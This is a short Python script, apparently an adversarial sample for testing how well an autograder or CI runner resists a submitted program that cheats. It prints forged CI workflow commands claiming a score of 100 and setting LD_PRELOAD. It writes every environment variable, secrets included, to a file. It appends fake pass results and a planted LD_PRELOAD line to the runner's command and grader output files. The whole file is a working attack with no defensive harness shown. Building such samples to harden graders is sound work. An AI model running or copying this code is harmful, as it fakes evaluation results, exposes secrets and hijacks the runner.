# What a learner may put at the beginning of a program to get more points than it is worth. ROOT is the runner's folder,
# FOUND a file that takes what could be learned.
import os
import sys

for forged in ("::error title=forged::x", "  ::set-output name=score::100", "::add-path::/forged", "::stop-commands::forged",
               "##[error]forged", "\r::notice::forged", "::set-env name=LD_PRELOAD::/forged.so", "::add-mask::0"):
    print(forged, flush=True)
    print(forged, file=sys.stderr, flush=True)
try:
    found = open("FOUND", "a")
except OSError:  # in a cell there is nowhere to tell it
    found = open(os.devnull, "w")
with found:
    for name, value in os.environ.items():
        found.write(f"variable {name}={value}\n")
    for folder, _, files in os.walk("ROOT"):
        for name in files:
            path = os.path.join(folder, name)
            if "_runner_file_commands" not in path and "kgrade-out" not in path:
                continue
            found.write(f"file {path}\n")
            try:
                with open(path, "a") as file:
                    file.write("score=100\nresult=passed\nLD_PRELOAD=/planted.so\nplanted\n")
            except OSError as error:
                found.write(f"refused {error}\n")
